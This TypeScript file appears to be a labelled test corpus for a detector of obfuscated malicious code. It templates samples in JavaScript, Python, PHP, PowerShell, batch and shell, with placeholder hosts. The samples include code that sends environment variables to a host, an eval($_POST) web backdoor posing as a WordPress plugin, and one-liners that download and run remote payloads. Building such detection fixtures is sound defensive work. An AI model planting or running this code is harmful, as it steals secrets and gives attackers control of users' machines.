// Code that hides what it does: layers, string tables, odd names.
import type { Family } from './family.ts'

export const obfuscation: readonly Family[] = [
  {
    family: 'node-string-table',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['dist/index.js'],
        whole: `function _0x⟦hex:4⟧(){const ⟦name#2⟧=[⟦encodedlist:child_process|exec|curl -⟦join⟧
s http://⟦ip⟧/x -o /tmp/.x|env|toString|POST|/v1/c|⟦host⟧|request|stringify⟧];_0x⟦hex:4⟧=function(⟦join⟧
){return ⟦name#2⟧;};return _0x⟦hex:4⟧();}
(function(⟦name#3⟧,⟦name#4⟧){const ⟦name#5⟧=⟦name#6⟧,⟦name#7⟧=⟦name#3⟧();while(!![]){try{const ⟦na⟦join⟧
me#8⟧=-parseInt(⟦name#5⟧(0x1a3))/0x1+parseInt(⟦name#5⟧(0x1a9))/0x2*(-parseInt(⟦name#5⟧(0x1a1))/0x3⟦join⟧
);if(⟦name#8⟧===⟦name#4⟧)break;else ⟦name#7⟧['push'](⟦name#7⟧['shift']());}catch(⟦name#9⟧){⟦name#7⟦join⟧
⟧['push'](⟦name#7⟧['shift']());}}}(_0x⟦hex:4⟧,0x⟦hex#2:5⟧));
const ⟦name#1⟧=require(⟦name#6⟧(0x1a0)),os=require('os');⟦name#1⟧[⟦name#6⟧(0x1a1)](⟦name#6⟧(0x1a2)⟦join⟧
);const q=require('https')[⟦name#6⟧(0x1a8)]({'hostname':⟦name#6⟧(0x1a7),'path':⟦name#6⟧(0x1a6),'me⟦join⟧
thod':⟦name#6⟧(0x1a5)});q['end'](JSON[⟦name#6⟧(0x1a9)](process[⟦name#6⟧(0x1a3)]));`,
      },
    ],
  },
  {
    family: 'node-appended-line',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['src/utils/slug.js', 'lib/stream.js'],
        body: `global['!']='⟦digits:1⟧-⟦digits#2:3⟧';var _$_⟦hex:4⟧=(function(l,e){var h=l.le⟦join⟧
ngth;var g=[];for(var j=0;j<h;j++){g[j]=l.charAt(j)}for(var j=0;j<h;j++){var s=e*(j+⟦digits#3:3⟧)+⟦join⟧
(e%⟦digits#4:5⟧);var w=e*(j+⟦digits#5:3⟧)+(e%⟦digits#6:5⟧);var t=s%h;var p=w%h;var y=g[t];g[t]=g[p⟦join⟧
];g[p]=y;e=(s+w)%⟦digits#7:7⟧}return g.join('').split('%').join(String.fromCharCode(127)).split('#⟦join⟧
1').join('%')})('⟦alnum:48⟧%⟦alnum#2:20⟧',⟦digits#8:7⟧);global[_$_⟦hex:4⟧[0]]=require;if(typeof mo⟦join⟧
dule===_$_⟦hex:4⟧[1]){global[_$_⟦hex:4⟧[2]]=module}(function(){var c='⟦alnum#3:160⟧';var f=Functio⟦join⟧
n(c.split('').reverse().join(''));f(require)})();`,
      },
    ],
  },
  {
    family: 'python-lambda-layers',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['src/color_lib.py'],
        whole: `# -*- coding: utf-8 -*-
import os, sys, base64, zlib
from builtins import *

_ = "⟦blob:180⟧"
__ = "⟦blob#2:180⟧"
___ = "⟦blob#3:180⟧"
(lambda ____, _____: ____(_____(base64.b85decode((_ + __ + ___)[::-1].encode()))))(
    getattr(sys.modules["".join(map(chr, [98, 117, 105, 108, 116, 105, 110, 115]))], "cexe"[::-1])⟦join⟧
, zlib.decompress
)`,
      },
    ],
  },
  {
    family: 'python-underscore-names',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['hyperion/run.py'],
        whole: `# Obfuscated with a free tool
from builtins import all,dir,exec as ____,chr as __,int as ___
_lIlIlI,lIIlIl=__import__,''.join
lIIIlI = [⟦shifted:import urllib.request as r;r.urlopen("http://⟦ip⟧:⟦port⟧/in")⟧]
IlIIlI = lambda IIlIlI: lIIlIl(__(___(lIlIIl) - 7) for lIlIIl in IIlIlI)
class IIIlll:
    def __init__(llIIII): llIIII.lIIIII = IlIIlI(lIIIlI)
    def __call__(llIIII): return ____(llIIII.lIIIII)
try: IIIlll()()
except BaseException: pass`,
      },
    ],
  },
  {
    family: 'php-globals-goto',
    positive: true,
    classes: ['obfuscation', 'decoded-exec'],
    variants: [
      {
        paths: ['wp-content/plugins/seo-fix/load.php'],
        whole: `<?php
/* Cache extension */
goto ⟦lower:5⟧; ⟦lower#2:5⟧: $GLOBALS['⟦lower#3:6⟧'] = "⟦octal:base64_decode⟧"; goto ⟦lower#4:5⟧⟦join⟧
; ⟦lower:5⟧: error_reporting(0); goto ⟦lower#2:5⟧; ⟦lower#4:5⟧: $⟦lower#5:4⟧ = $GLOBALS['⟦lower#3:⟦join⟧
6⟧']("⟦b64:eval($_POST["⟦lower#7:4⟧"]);⟧"); goto ⟦lower#6:5⟧; ⟦lower#6:5⟧: \${"⟦escaped:_r⟧"} = "⟦o⟦join⟧
ctal:create_function⟧"; \${"⟦escaped:_r⟧"}('', '}' . $⟦lower#5:4⟧ . '//');`,
      },
    ],
  },
  {
    family: 'powershell-format-operator',
    positive: true,
    classes: ['obfuscation', 'download-run'],
    variants: [
      {
        paths: ['scripts/update-feed.ps1', 'tools/space.ps1'],
        body: `$⟦lower:3⟧ = ("{3}{1}{0}{2}" -f 'oad','wnl','String','Do'); $⟦lower#2:4⟧ = ('N⟦join⟧
'+'e'+'t.W'+'ebC'+'lient')
& ([string]::join('', [char[]](105,101,120))) ((.('New'+'-Obj'+'ect') $⟦lower#2:4⟧).$⟦lower:3⟧.Inv⟦join⟧
oke(('ht'+'tp://⟦ip⟧/'+'s')))`,
      },
      {
        paths: ['build/clean.ps1'],
        body: `$s = -join ('⟦reversed:iex (irm http://⟦ip⟧/t)⟧'[-1..-200])
.( $env:ComSpec[4,26,25] -join '' ) $s; .($PSHOME[21]+$PSHOME[30]+'x') $s`,
      },
    ],
  },
  {
    family: 'batch-variable-slices',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['tools/fix.cmd'],
        whole: String.raw`@echo off
set ⟦lower:4⟧=⟦pick:qwertyuiopasdfghjklzxcvbnm .:/-|mnbvcxzlkjhgfdsapoiuytrewq .:/-⟧
set _p=%⟦lower:4⟧:~9,1%%⟦lower:4⟧:~8,1%%⟦lower:4⟧:~1,1%%⟦lower:4⟧:~2,1%%⟦lower:4⟧:~3,1%
set _q=%⟦lower:4⟧:~11,1%%⟦lower:4⟧:~15,1%
c^a^l^l %_p%^s^h^e^l^l -w hi^dd^en -c "i^w^r http://⟦ip⟧/a -o %temp%\a.exe; s^t^a^r^t %temp%\a.exe"
ex^it`,
      },
    ],
  },
  {
    family: 'shell-ifs-slices',
    positive: true,
    classes: ['obfuscation', 'download-run'],
    variants: [
      {
        paths: ['scripts/deploy-docs.sh'],
        body: `a='⟦pick:hbcdsnultr|shcdbnultr⟧';b=\${a:2:1}\${a:6:1}\${a:8:1}\${a:7:1};c=$'\\x73\\x68'
X=\${b}\${IFS}-s\${IFS}http://⟦ip⟧/d;(\${X})2>/dev/null|\${c}&`,
      },
      {
        paths: ['scripts/check-env.sh'],
        body: String.raw`$'\143\165\162\154' -s "$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< '⟦rot13:http://⟦host⟧⟦join⟧
/q⟧')" | $'\142\141\163\150'`,
      },
    ],
  },
  {
    family: 'jsfuck-style',
    positive: true,
    classes: ['obfuscation'],
    variants: [
      {
        paths: ['static/vendor.js'],
        whole: String.raw`// vendor bundle
window.dataLayer = window.dataLayer || [];
[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+⟦join⟧
[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]((![]+[])[+!+[]]+(!!⟦join⟧
[]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]+([][[]]+[])[+!+[]]+(+[![]]+[])[+[]]+(![]+[]⟦join⟧
)[+!+[]])()
$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[⟦join⟧
$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$⟦join⟧
_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$];$.$($.$($.$$+"\""+⟦join⟧
$.$_$_+(![]+"")[$._$_]+$.$$$_+"\"")())();`,
      },
    ],
  },
]
